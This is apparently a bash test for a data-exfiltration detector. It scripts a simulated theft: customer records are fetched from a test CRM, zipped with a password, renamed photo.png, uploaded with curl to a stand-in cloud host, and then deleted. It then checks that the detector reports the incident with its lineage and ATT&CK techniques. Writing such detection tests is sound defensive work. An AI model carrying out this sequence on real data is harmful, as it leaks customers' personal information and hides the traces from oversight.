#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Disguise. Customer rows are copied, packed with a password, called a photo, uploaded to a cloud
# disk, and the staged copy is removed.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves pan.test
weir_watches

alice_does <<'END'
for number in 1 2 3 4 5 6 7 8 9 10; do
	curl -sS "https://crm.test/policy/P20207000$number" >>customers.json
done
cp customers.json copy.json
zip -q -P secret archive.zip copy.json
mv archive.zip photo.png
END
archive_bytes=$(stat -c %s "$home/photo.png")
alice_does <<'END'
curl -sS -F file=@photo.png https://pan.test/upload
rm copy.json photo.png
END
sent=$(received_bytes pan.test)
then_it "pan.test has the archive ($archive_bytes bytes in a form of $sent)" \
	test "$sent" -gt "$archive_bytes"

soon "one incident" incidents_say "len(d) == 1"
soon "a direct egress, disguised, with the traces removed" \
	incidents_say "{'direct_egress', 'obfuscation', 'clean_up'} <= set(d[0]['detectors'])"
soon "it is high or critical" \
	incidents_say "d[0]['severity'] in ('high', 'critical')"
soon "it went to pan.test, a cloud disk" \
	incidents_say "[(s['name'], s['kind']) for s in d[0]['sinks']] == [('pan.test', 'cloud')]"
# What curl gives the kernel is TLS: the form, the handshake and the records around them.
soon "no byte of the upload is missing" \
	incidents_say "$sent <= d[0]['bytes_out'] <= $sent + 4096"
soon "it came from the CRM, some ten records" \
	incidents_say "{s['name'] for s in d[0]['sources']} == {'crm.test'} and 9 <= d[0]['records']['value'] <= 11"
lineage_has "d[0]['lineage']" \
	"curl takes from the CRM:curl:in:crm.test" "curl writes the rows:curl:out:customers.json" \
	"cp reads them:cp:in:customers.json" "cp writes the copy:cp:out:copy.json" \
	"zip reads the copy:zip:in:copy.json" "curl reads what mv called a photo:curl:in:photo.png" \
	"curl gives it to pan.test:curl:out:pan.test"
soon "every addend of the score has its reason" \
	incidents_say "d[0]['score'] == sum(a['points'] for a in d[0]['addends']) and all(a['reason'] for a in d[0]['addends'])"
soon "archive, new name and removal have their techniques" \
	incidents_say "any(a.startswith('T1560') for a in d[0]['attack']) and 'T1036' in ' '.join(d[0]['attack']) and any(a.startswith('T1070') for a in d[0]['attack'])"
